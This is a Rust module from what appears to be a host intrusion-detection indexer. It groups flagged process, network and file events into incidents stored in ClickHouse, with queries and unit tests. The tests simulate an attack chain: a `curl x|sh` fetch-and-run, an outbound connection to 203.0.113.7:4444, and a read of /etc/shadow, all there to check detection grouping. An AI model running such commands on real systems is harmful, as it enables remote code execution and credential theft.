//! Incidents: the flagged events of a host that belong together, so an
//! operator looks at one attack chain (or one repeated false alarm) instead
//! of every event of it.
//!
//! The indexer reads the alerts topic in a consumer group of its own and
//! groups each warn or alert into an open incident of the same org and host
//! when it is of the same process tree — its process or its parent is a
//! process (or the parent of a process) of the incident — or it repeats a
//! behaviour of the incident, and it happened within `incidents.window_s` of
//! the incident's events. Otherwise it opens a new incident. Incidents are
//! rows of the ClickHouse table `incidents` (ReplacingMergeTree on
//! `updated_ns`: each change is a new version of the row, queries read with
//! FINAL), written before the alerts' offsets are stored, so a restart
//! replays into the same incidents: the open ones are read back at start,
//! and an event already in an incident is not counted twice.
//!
//! Alerts of one workload stay in order on one partition; the incidents of
//! a host whose workloads are read by different indexers of one group are
//! grouped by each of them apart (documented in docs/incidents.md).

use std::collections::{HashMap, HashSet};
use std::time::Duration;

use clickhouse::{Client, Row};
use outlier_common::kafka::{self, Assignment, KafkaConfig};
use outlier_common::retry::{Backoff, RetryPolicy};
use outlier_common::telemetry::{Check, Health};
use outlier_proto::facts::OpenMode;
use outlier_proto::{Incident, ScoredEvent, Verdict, event::Detail};
use prost::Message as _;
use rdkafka::Message as _;
use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};
use tokio_util::sync::CancellationToken;

use crate::metrics;

/// Name of the incidents table.
pub const TABLE: &str = "incidents";

/// Event ids (and times) an incident row keeps: enough to show the chain.
pub const MAX_EVENT_IDS: usize = 200;
/// Processes and behaviours an incident remembers to join new events by.
pub const MAX_MEMBERS: usize = 512;
/// Distinct steps (what its events did) an incident row keeps.
pub const MAX_STEPS: usize = 8;

/// One version of an incident.
#[derive(Debug, Clone, Default, PartialEq, Row, Serialize, Deserialize)]
pub struct IncidentRow {
    pub org: String,
    pub incident_id: String,
    pub host: String,
    pub workloads: Vec<String>,
    /// First event time, seconds (DateTime): the retention clock.
    pub ts: u32,
    pub first_ns: u64,
    pub last_ns: u64,
    pub updated_ns: u64,
    pub event_count: u32,
    pub alert_count: u32,
    /// 2 = warn, 3 = alert (the `Verdict` numbers).
    pub verdict: u8,
    pub max_score: f32,
    pub tactics: Vec<String>,
    pub techniques: Vec<String>,
    pub summary: String,
    pub event_ids: Vec<String>,
    pub event_ts_ns: Vec<u64>,
    /// Processes of the incident and their parents (joins new events).
    pub pids: Vec<u32>,
    pub behaviour_keys: Vec<u64>,
    pub root_pid: u32,
    pub root_program: String,
    pub steps: Vec<String>,
}

/// The statements that create the incidents table in `db`.
pub fn create_table_sql(
    db: &str,
    layout: &crate::schema::Layout,
    ttl_days: Option<u32>,
) -> Vec<String> {
    let ttl = crate::schema::ttl_clause(ttl_days);
    layout.create(
        db,
        TABLE,
        "(\n    org String,\n    incident_id String,\n    host String,\n    workloads Array(String),\n    ts DateTime,\n    first_ns UInt64,\n    last_ns UInt64,\n    updated_ns UInt64,\n    event_count UInt32,\n    alert_count UInt32,\n    verdict UInt8,\n    max_score Float32,\n    tactics Array(String),\n    techniques Array(String),\n    summary String,\n    event_ids Array(String),\n    event_ts_ns Array(UInt64),\n    pids Array(UInt32),\n    behaviour_keys Array(UInt64),\n    root_pid UInt32,\n    root_program String,\n    steps Array(String)\n)",
        "updated_ns",
        &format!("ORDER BY (org, incident_id){ttl}"),
    )
}

impl IncidentRow {
    pub fn to_incident(&self) -> Incident {
        Incident {
            incident_id: self.incident_id.clone(),
            org: self.org.clone(),
            host: self.host.clone(),
            workloads: self.workloads.clone(),
            first_ns: self.first_ns,
            last_ns: self.last_ns,
            event_count: self.event_count,
            alert_count: self.alert_count,
            verdict: i32::from(self.verdict),
            max_score: self.max_score,
            tactics: self.tactics.clone(),
            techniques: self.techniques.clone(),
            summary: self.summary.clone(),
            event_ids: self.event_ids.clone(),
            root_pid: self.root_pid,
            root_program: self.root_program.clone(),
            updated_ns: self.updated_ns,
        }
    }
}

/// What an event did, in a few words (a step of an incident's summary).
pub fn step_of(s: &ScoredEvent) -> String {
    let Some(e) = &s.event else {
        return String::new();
    };
    let mut step = match &e.detail {
        Some(Detail::Exec(x)) => {
            let line = x.argv.join(" ");
            if line.is_empty() {
                format!("ran {}", e.exe)
            } else {
                format!("ran `{line}`")
            }
        }
        Some(Detail::Connect(c)) => {
            format!(
                "{} connected to {}:{}",
                e.program_name(),
                c.remote_ip,
                c.remote_port
            )
        }
        Some(Detail::Open(o)) => {
            let verb = if OpenMode::of(o.flags).writes() {
                "wrote"
            } else {
                "read"
            };
            format!("{} {verb} {}", e.program_name(), o.path)
        }
        None => String::new(),
    };
    if step.chars().count() > 90 {
        step = step.chars().take(89).collect::<String>() + "…";
    }
    step
}

fn duration_words(ns: u64) -> String {
    let s = ns / 1_000_000_000;
    match s {
        0 => "under a second".to_string(),
        1..=119 => format!("{s} s"),
        120..=7199 => format!("{} min", s / 60),
        _ => format!("{:.1} h", s as f64 / 3600.0),
    }
}

/// The incident's one-line summary.
pub fn summary_of(r: &IncidentRow) -> String {
    let what = if r.event_count == 1 {
        "1 flagged event".to_string()
    } else {
        format!("{} flagged events", r.event_count)
    };
    let mut s = format!(
        "{what} on {} ({}) over {}",
        r.host,
        r.workloads.join(", "),
        duration_words(r.last_ns.saturating_sub(r.first_ns))
    );
    if !r.steps.is_empty() {
        s.push_str(": ");
        s.push_str(&r.steps.join(" → "));
        if r.steps.len() == MAX_STEPS {
            s.push_str(" → …");
        }
    }
    if !r.tactics.is_empty() {
        s.push_str("; tactics: ");
        s.push_str(&r.tactics.join(", "));
    }
    s
}

fn incident_id(org: &str, host: &str, first_event: &str) -> String {
    let mut h = Sha256::new();
    for part in [org, host, first_event] {
        h.update(part.as_bytes());
        h.update([0]);
    }
    format!("inc-{}", hex::encode(&h.finalize()[..10]))
}

struct Open {
    row: IncidentRow,
    family: HashSet<u32>,
    keys: HashSet<u64>,
    ids: HashSet<String>,
}

impl Open {
    fn from_row(row: IncidentRow) -> Self {
        Self {
            family: row.pids.iter().copied().collect(),
            keys: row.behaviour_keys.iter().copied().collect(),
            ids: row.event_ids.iter().cloned().collect(),
            row,
        }
    }

    fn joins(&self, pid: u32, ppid: u32, key: u64, ts: u64, window: u64) -> bool {
        let near = ts <= self.row.last_ns.saturating_add(window)
            && ts.saturating_add(window) >= self.row.first_ns;
        near && ((pid > 1 && self.family.contains(&pid))
            || (ppid > 1 && self.family.contains(&ppid))
            || (key != 0 && self.keys.contains(&key)))
    }

    fn add(&mut self, s: &ScoredEvent, now_ns: u64) {
        let e = s.event.as_ref().expect("checked by the caller");
        let r = &mut self.row;
        if r.event_count == 0 {
            r.first_ns = e.ts_ns;
            r.last_ns = e.ts_ns;
            r.root_pid = e.pid;
            r.root_program = e.program_name().to_string();
        }
        r.first_ns = r.first_ns.min(e.ts_ns);
        r.last_ns = r.last_ns.max(e.ts_ns);
        r.ts = u32::try_from(r.first_ns / 1_000_000_000).unwrap_or(u32::MAX);
        r.updated_ns = now_ns.max(r.updated_ns + 1);
        r.event_count += 1;
        let verdict = s.verdict();
        if verdict == Verdict::Alert {
            r.alert_count += 1;
        }
        r.verdict = r.verdict.max(verdict as u8);
        r.max_score = r.max_score.max(s.anomaly_score);
        if !r.workloads.contains(&e.workload) {
            r.workloads.push(e.workload.clone());
        }
        if !s.tactic.is_empty() && !r.tactics.contains(&s.tactic) {
            r.tactics.push(s.tactic.clone());
        }
        if !s.technique.is_empty() && !r.techniques.contains(&s.technique) {
            r.techniques.push(s.technique.clone());
        }
        if r.event_ids.len() < MAX_EVENT_IDS {
            r.event_ids.push(e.event_id.clone());
            r.event_ts_ns.push(e.ts_ns);
        }
        for p in [e.pid, e.ppid] {
            if p > 1 && self.family.len() < MAX_MEMBERS && self.family.insert(p) {
                r.pids.push(p);
            }
        }
        if s.behaviour_key != 0
            && self.keys.len() < MAX_MEMBERS
            && self.keys.insert(s.behaviour_key)
        {
            r.behaviour_keys.push(s.behaviour_key);
        }
        let step = step_of(s);
        if !step.is_empty() && r.steps.len() < MAX_STEPS && !r.steps.contains(&step) {
            r.steps.push(step);
        }
        self.ids.insert(e.event_id.clone());
        r.summary = summary_of(r);
    }
}

/// The open incidents of every (org, host), and the rule that groups a
/// flagged event into one of them.
pub struct Grouper {
    window_ns: u64,
    max_open: usize,
    open: HashMap<(String, String), Vec<Open>>,
    n_open: usize,
}

impl Grouper {
    pub fn new(window: Duration, max_open: usize) -> Self {
        Self {
            window_ns: window.as_nanos() as u64,
            max_open: max_open.max(1),
            open: HashMap::new(),
            n_open: 0,
        }
    }

    /// Open incidents held.
    pub fn len(&self) -> usize {
        self.n_open
    }

    pub fn is_empty(&self) -> bool {
        self.n_open == 0
    }

    /// Takes back an incident read from ClickHouse (at start).
    pub fn restore(&mut self, row: IncidentRow) {
        let list = self
            .open
            .entry((row.org.clone(), row.host.clone()))
            .or_default();
        if list.iter().any(|o| o.row.incident_id == row.incident_id) {
            return;
        }
        list.push(Open::from_row(row));
        self.n_open += 1;
        self.bound();
    }

    /// Groups a flagged event; returns the id of the incident it opened or
    /// grew, or `None` when it is not a flagged event of an org and host or
    /// is already in its incident (a replay).
    pub fn add(&mut self, s: &ScoredEvent, now_ns: u64) -> Option<String> {
        let e = s.event.as_ref()?;
        if e.org.is_empty() || e.host.is_empty() || e.event_id.is_empty() {
            return None;
        }
        if !matches!(s.verdict(), Verdict::Warn | Verdict::Alert) {
            return None;
        }
        let list = self
            .open
            .entry((e.org.clone(), e.host.clone()))
            .or_default();
        if list.iter().any(|o| o.ids.contains(&e.event_id)) {
            return None;
        }
        let window = self.window_ns;
        let found = list
            .iter_mut()
            .filter(|o| o.joins(e.pid, e.ppid, s.behaviour_key, e.ts_ns, window))
            .max_by_key(|o| o.row.last_ns);
        let id = match found {
            Some(o) => {
                o.add(s, now_ns);
                o.row.incident_id.clone()
            }
            None => {
                let mut o = Open::from_row(IncidentRow {
                    org: e.org.clone(),
                    incident_id: incident_id(&e.org, &e.host, &e.event_id),
                    host: e.host.clone(),
                    ..IncidentRow::default()
                });
                o.add(s, now_ns);
                let id = o.row.incident_id.clone();
                list.push(o);
                self.n_open += 1;
                id
            }
        };
        self.bound();
        Some(id)
    }

    /// The current row of an open incident.
    pub fn row(&self, org: &str, host: &str, id: &str) -> Option<&IncidentRow> {
        self.open
            .get(&(org.to_string(), host.to_string()))?
            .iter()
            .map(|o| &o.row)
            .find(|r| r.incident_id == id)
    }

    /// Closes the incidents whose last event is more than a window older
    /// than `now_ns` (event time): nothing can join them any more.
    pub fn close_before(&mut self, now_ns: u64) {
        let cutoff = now_ns.saturating_sub(self.window_ns);
        let mut n = 0;
        self.open.retain(|_, list| {
            list.retain(|o| o.row.last_ns >= cutoff);
            n += list.len();
            !list.is_empty()
        });
        self.n_open = n;
    }

    /// Keeps at most `max_open` incidents: the least recent close first.
    fn bound(&mut self) {
        if self.n_open <= self.max_open {
            return;
        }
        // Over the bound: close the least recent 1% (at least the excess)
        // in one pass, so a flood of new incidents does not scan every open
        // one for each event.
        let n = (self.n_open - self.max_open)
            .max(self.max_open / 100)
            .min(self.n_open);
        let mut times: Vec<u64> = self
            .open
            .values()
            .flatten()
            .map(|o| o.row.last_ns)
            .collect();
        let cutoff = *times.select_nth_unstable(n - 1).1;
        let mut closed = 0;
        for strict in [true, false] {
            for list in self.open.values_mut() {
                list.retain(|o| {
                    let close = closed < n
                        && if strict {
                            o.row.last_ns < cutoff
                        } else {
                            o.row.last_ns == cutoff
                        };
                    closed += usize::from(close);
                    !close
                });
            }
        }
        self.open.retain(|_, l| !l.is_empty());
        self.n_open -= closed;
    }
}

/// Groups the alerts topic into incidents until `shutdown` fires.
pub async fn run(
    kafka_cfg: KafkaConfig,
    group: String,
    ch: Client,
    cfg: crate::config::IncidentsConfig,
    health: Health,
    shutdown: CancellationToken,
) {
    let topic = kafka_cfg.topics.alerts.clone();
    let window = Duration::from_secs(cfg.window_s);
    let mut grouper = Grouper::new(window, cfg.max_open);
    // The incidents still open when the indexer last stopped.
    let mut backoff = Backoff::new(RetryPolicy::default());
    loop {
        let since = outlier_common::now_ns().saturating_sub(2 * window.as_nanos() as u64);
        match ch
            .query("SELECT ?fields FROM incidents FINAL WHERE last_ns >= ? LIMIT ?")
            .bind(since)
            .bind(cfg.max_open as u64)
            .fetch_all::<IncidentRow>()
            .await
        {
            Ok(rows) => {
                let n = rows.len();
                rows.into_iter().for_each(|r| grouper.restore(r));
                tracing::info!(restored = n, "open incidents read back");
                break;
            }
            Err(e) => {
                health.set(Check::ClickHouse, false, format!("{TABLE}: {e}"));
                tracing::warn!(error = %e, "open incidents not read; retrying");
            }
        }
        if !backoff.wait(&shutdown).await {
            return;
        }
    }
    let consumer = match kafka::at_least_once_clients(
        &kafka_cfg,
        "outlier-indexer-incidents",
        &group,
        &[&topic],
        Assignment::Sticky,
        &health,
        &shutdown,
    )
    .await
    {
        Ok(Some((c, _))) => c,
        Ok(None) => return,
        Err(e) => {
            tracing::error!(topic, error = %e, "consumer not created");
            health.set(Check::Kafka, false, format!("{topic}: {e}"));
            return;
        }
    };
    tracing::info!(
        topic,
        group,
        window_s = cfg.window_s,
        "grouping alerts into incidents"
    );
    let mut newest_ns = 0u64;
    while let Some(batch) = kafka::next_batch(
        &consumer,
        kafka::BatchBound::SIDE,
        Duration::from_millis(100),
        &shutdown,
    )
    .await
    {
        let offsets = kafka::batch_offsets(&batch);
        let now_ns = outlier_common::now_ns();
        let mut changed: Vec<(String, String, String)> = Vec::new();
        for m in &batch {
            let Some(s) = m.payload().and_then(|p| ScoredEvent::decode(p).ok()) else {
                metrics::INCIDENT_EVENTS.inc(metrics::IncidentEvent::Invalid);
                continue;
            };
            let Some(e) = s.event.as_ref() else { continue };
            newest_ns = newest_ns.max(e.ts_ns);
            let (org, host) = (e.org.clone(), e.host.clone());
            match grouper.add(&s, now_ns) {
                Some(id) => {
                    metrics::INCIDENT_EVENTS.inc(metrics::IncidentEvent::Grouped);
                    let key = (org, host, id);
                    if !changed.contains(&key) {
                        changed.push(key);
                    }
                }
                None => metrics::INCIDENT_EVENTS.inc(metrics::IncidentEvent::Skipped),
            }
        }
        let rows: Vec<IncidentRow> = changed
            .iter()
            .filter_map(|(o, h, id)| grouper.row(o, h, id).cloned())
            .collect();
        let opened = rows.iter().filter(|r| r.event_count == 1).count();
        let mut backoff = Backoff::new(RetryPolicy {
            max_delay: Duration::from_secs(30),
            ..RetryPolicy::default()
        });
        while !rows.is_empty() {
            match insert(&ch, &rows).await {
                Ok(()) => {
                    metrics::INCIDENTS.inc_by(metrics::IncidentChange::Opened, opened as u64);
                    metrics::INCIDENTS.inc_by(metrics::IncidentChange::Updated, rows.len() as u64);
                    break;
                }
                Err(e) => {
                    health.set(Check::ClickHouse, false, format!("{TABLE}: {e}"));
                    tracing::warn!(error = %e, "incident insert failed; retrying");
                }
            }
            if !backoff.wait(&shutdown).await {
                kafka::commit_stored(&consumer);
                return;
            }
        }
        kafka::store_offsets(&consumer, &offsets);
        grouper.close_before(newest_ns.min(now_ns));
        metrics::INCIDENTS_OPEN.set(grouper.len() as i64);
    }
    kafka::commit_stored(&consumer);
}

async fn insert(ch: &Client, rows: &[IncidentRow]) -> Result<(), clickhouse::error::Error> {
    let mut insert = ch.insert::<IncidentRow>(TABLE).await?;
    for r in rows {
        insert.write(r).await?;
    }
    insert.end().await
}

/// Which of an org's incidents [`list`] returns.
#[derive(Debug, Clone, Default)]
pub struct Filter {
    /// Active in `[since_ns, until_ns)` (0 = open).
    pub since_ns: u64,
    pub until_ns: u64,
    /// On these hosts, with events of these workloads, named one of these
    /// tactics (each: all when empty).
    pub hosts: Vec<String>,
    pub workloads: Vec<String>,
    pub tactics: Vec<String>,
    /// Most severe verdict at least this.
    pub min_verdict: u8,
    /// Last event before this (paging; 0 = no bound).
    pub before_last_ns: u64,
    pub limit: u64,
}

/// The org's incidents that pass `f`, most recent first.
pub async fn list(
    ch: &Client,
    org: &str,
    f: &Filter,
) -> Result<Vec<IncidentRow>, clickhouse::error::Error> {
    let until = if f.until_ns == 0 {
        u64::MAX
    } else {
        f.until_ns
    };
    let before = if f.before_last_ns == 0 {
        u64::MAX
    } else {
        f.before_last_ns
    };
    let mut sql = String::from(
        "SELECT ?fields FROM incidents FINAL WHERE org = ? AND last_ns >= ? AND first_ns < ? \
         AND last_ns < ? AND verdict >= ?",
    );
    for (values, test) in [
        (&f.hosts, " AND has(?, host)"),
        (&f.workloads, " AND hasAny(workloads, ?)"),
        (&f.tactics, " AND hasAny(tactics, ?)"),
    ] {
        if !values.is_empty() {
            sql.push_str(test);
        }
    }
    sql.push_str(" ORDER BY last_ns DESC, incident_id LIMIT ?");
    let mut q = ch
        .query(&sql)
        .bind(org)
        .bind(f.since_ns)
        .bind(until)
        .bind(before)
        .bind(f.min_verdict);
    for values in [&f.hosts, &f.workloads, &f.tactics] {
        if !values.is_empty() {
            q = q.bind(values);
        }
    }
    q.bind(f.limit).fetch_all::<IncidentRow>().await
}

/// Incidents an org opened in one hour with events of one workload.
#[derive(Debug, Clone, Deserialize, Row)]
pub struct OpenedRow {
    /// Start of the hour, seconds since the epoch.
    pub hour: u32,
    pub workload: String,
    pub n: u64,
}

/// The org's incidents first seen since `since_ns`, by hour and workload
/// (an incident of two workloads counts in each).
pub async fn opened_by_hour(
    ch: &Client,
    org: &str,
    since_ns: u64,
) -> Result<Vec<OpenedRow>, clickhouse::error::Error> {
    ch.query(
        "SELECT toUInt32(toStartOfHour(toDateTime(intDiv(first_ns, 1000000000)))) AS hour, \
         arrayJoin(workloads) AS workload, uniqExact(incident_id) AS n FROM incidents \
         WHERE org = ? AND first_ns >= ? GROUP BY hour, workload ORDER BY hour",
    )
    .bind(org)
    .bind(since_ns)
    .fetch_all::<OpenedRow>()
    .await
}

/// One incident of an org.
pub async fn get(
    ch: &Client,
    org: &str,
    id: &str,
) -> Result<Option<IncidentRow>, clickhouse::error::Error> {
    Ok(ch
        .query("SELECT ?fields FROM incidents FINAL WHERE org = ? AND incident_id = ? LIMIT 1")
        .bind(org)
        .bind(id)
        .fetch_all::<IncidentRow>()
        .await?
        .into_iter()
        .next())
}

/// The org's incidents changed after `after_ns` and at or before
/// `until_ns`, oldest change first.
pub async fn changed(
    ch: &Client,
    org: &str,
    after_ns: u64,
    until_ns: u64,
    min_verdict: u8,
) -> Result<Vec<IncidentRow>, clickhouse::error::Error> {
    ch.query(
        "SELECT ?fields FROM incidents FINAL WHERE org = ? AND updated_ns > ? AND updated_ns <= ? AND verdict >= ? ORDER BY updated_ns LIMIT 500",
    )
    .bind(org)
    .bind(after_ns)
    .bind(until_ns)
    .bind(min_verdict)
    .fetch_all::<IncidentRow>()
    .await
}

#[cfg(test)]
mod tests {
    use super::*;
    use outlier_proto::{Connect, Event, Exec, Open as OpenEv};

    const S: u64 = 1_000_000_000;

    fn ev(id: &str, host: &str, ts_s: u64, pid: u32, ppid: u32, detail: Detail) -> Event {
        Event {
            event_id: id.into(),
            org: "acme".into(),
            workload: "web".into(),
            host: host.into(),
            ts_ns: 1_800_000_000 * S + ts_s * S,
            pid,
            ppid,
            comm: "sh".into(),
            exe: "/usr/bin/sh".into(),
            detail: Some(detail),
            ..Event::default()
        }
    }

    fn exec(argv: &[&str]) -> Detail {
        Detail::Exec(Exec {
            argv: argv.iter().map(|s| s.to_string()).collect(),
            ..Exec::default()
        })
    }

    fn flagged(e: Event, v: Verdict, key: u64, tactic: &str) -> ScoredEvent {
        ScoredEvent {
            event: Some(e),
            verdict: v as i32,
            anomaly_score: 0.8,
            behaviour_key: key,
            tactic: tactic.into(),
            ..ScoredEvent::default()
        }
    }

    fn grouper() -> Grouper {
        Grouper::new(Duration::from_secs(600), 1000)
    }

    #[test]
    fn an_attack_chain_is_one_incident_and_an_unrelated_process_another() {
        let mut g = grouper();
        // php-fpm (pid 10) spawns a shell (11), which downloads (12) and
        // connects out (11), then reads the shadow file (13, child of 11).
        let shell = flagged(
            ev("a", "web-1", 0, 11, 10, exec(&["sh", "-c", "curl x|sh"])),
            Verdict::Alert,
            1,
            "Execution",
        );
        let curl = flagged(
            ev("b", "web-1", 2, 12, 11, exec(&["curl", "http://x"])),
            Verdict::Warn,
            2,
            "Command and Control",
        );
        let conn = flagged(
            ev(
                "c",
                "web-1",
                3,
                11,
                10,
                Detail::Connect(Connect {
                    remote_ip: "203.0.113.7".into(),
                    remote_port: 4444,
                    ..Connect::default()
                }),
            ),
            Verdict::Alert,
            3,
            "Command and Control",
        );
        let shadow = flagged(
            ev(
                "d",
                "web-1",
                60,
                13,
                11,
                Detail::Open(OpenEv {
                    path: "/etc/shadow".into(),
                    ..OpenEv::default()
                }),
            ),
            Verdict::Warn,
            4,
            "Credential Access",
        );
        // Another process tree on the same host, and the same pids on another host.
        let other = flagged(
            ev("e", "web-1", 5, 500, 400, exec(&["logrotate"])),
            Verdict::Warn,
            5,
            "",
        );
        let elsewhere = flagged(
            ev("f", "db-1", 5, 12, 11, exec(&["psql"])),
            Verdict::Warn,
            6,
            "",
        );
        let now = 1;
        let ids: Vec<_> = [&shell, &curl, &conn, &other, &shadow, &elsewhere]
            .iter()
            .map(|s| g.add(s, now).unwrap())
            .collect();
        assert_eq!(ids[0], ids[1]);
        assert_eq!(ids[0], ids[2]);
        assert_eq!(ids[0], ids[4]);
        assert_ne!(ids[0], ids[3]);
        assert_ne!(ids[0], ids[5]);
        assert_eq!(g.len(), 3);
        let r = g.row("acme", "web-1", &ids[0]).unwrap();
        assert_eq!(r.event_count, 4);
        assert_eq!(r.alert_count, 2);
        assert_eq!(r.verdict, Verdict::Alert as u8);
        assert_eq!(r.event_ids, ["a", "b", "c", "d"]);
        assert_eq!(
            r.tactics,
            ["Execution", "Command and Control", "Credential Access"]
        );
        assert_eq!(r.root_pid, 11);
        assert_eq!(r.last_ns - r.first_ns, 60 * S);
        assert!(
            r.summary
                .starts_with("4 flagged events on web-1 (web) over 60 s: ran `sh -c curl x|sh`"),
            "{}",
            r.summary
        );
        assert!(
            r.summary.contains("sh connected to 203.0.113.7:4444"),
            "{}",
            r.summary
        );
        assert!(r.summary.contains("sh read /etc/shadow"), "{}", r.summary);
    }

    #[test]
    fn a_repeated_behaviour_joins_across_processes_but_not_after_the_window() {
        let mut g = grouper();
        let a = g
            .add(
                &flagged(
                    ev("a", "h", 0, 100, 50, exec(&["curl", "localhost"])),
                    Verdict::Warn,
                    9,
                    "",
                ),
                1,
            )
            .unwrap();
        let b = g
            .add(
                &flagged(
                    ev("b", "h", 300, 200, 150, exec(&["curl", "localhost"])),
                    Verdict::Warn,
                    9,
                    "",
                ),
                2,
            )
            .unwrap();
        assert_eq!(a, b, "same behaviour within the window");
        // 11 minutes after the last one: a new incident.
        let c = g
            .add(
                &flagged(
                    ev("c", "h", 300 + 660, 300, 250, exec(&["curl", "localhost"])),
                    Verdict::Warn,
                    9,
                    "",
                ),
                3,
            )
            .unwrap();
        assert_ne!(a, c);
        // The same pid after the window does not join either.
        let d = g
            .add(
                &flagged(
                    ev("d", "h", 3000, 100, 50, exec(&["id"])),
                    Verdict::Warn,
                    10,
                    "",
                ),
                4,
            )
            .unwrap();
        assert_ne!(a, d);
        assert_ne!(c, d);
    }

    #[test]
    fn replays_ok_events_and_pid_one_do_not_group() {
        let mut g = grouper();
        let s = flagged(ev("a", "h", 0, 100, 1, exec(&["id"])), Verdict::Warn, 0, "");
        let id = g.add(&s, 1).unwrap();
        assert_eq!(g.add(&s, 2), None, "a replayed event is not counted twice");
        assert_eq!(g.row("acme", "h", &id).unwrap().event_count, 1);
        let ok = flagged(ev("b", "h", 1, 100, 1, exec(&["id"])), Verdict::Ok, 0, "");
        assert_eq!(g.add(&ok, 3), None);
        // Both children of init: not one tree.
        let other = g
            .add(
                &flagged(ev("c", "h", 1, 200, 1, exec(&["w"])), Verdict::Warn, 0, ""),
                4,
            )
            .unwrap();
        assert_ne!(id, other);
    }

    #[test]
    fn restored_incidents_keep_grouping_and_closing_and_the_bound_hold() {
        let mut g = grouper();
        let id = g
            .add(
                &flagged(
                    ev("a", "h", 0, 100, 50, exec(&["id"])),
                    Verdict::Warn,
                    7,
                    "",
                ),
                1,
            )
            .unwrap();
        let row = g.row("acme", "h", &id).unwrap().clone();
        let mut g2 = grouper();
        g2.restore(row.clone());
        g2.restore(row);
        assert_eq!(g2.len(), 1);
        let same = g2
            .add(
                &flagged(
                    ev("b", "h", 10, 101, 100, exec(&["w"])),
                    Verdict::Alert,
                    8,
                    "",
                ),
                2,
            )
            .unwrap();
        assert_eq!(same, id);
        let r = g2.row("acme", "h", &id).unwrap();
        assert_eq!(r.event_count, 2);
        assert!(r.updated_ns > 1);
        g2.close_before(1_800_000_000 * S + 10 * S + 601 * S);
        assert!(g2.is_empty());

        let mut small = Grouper::new(Duration::from_secs(600), 2);
        for (i, pid) in [100u32, 200, 300].iter().enumerate() {
            small
                .add(
                    &flagged(
                        ev(
                            &format!("x{i}"),
                            "h",
                            i as u64,
                            *pid,
                            *pid - 1,
                            exec(&["id"]),
                        ),
                        Verdict::Warn,
                        u64::from(*pid),
                        "",
                    ),
                    1,
                )
                .unwrap();
        }
        assert_eq!(small.len(), 2, "the least recent incident closed");
    }
}
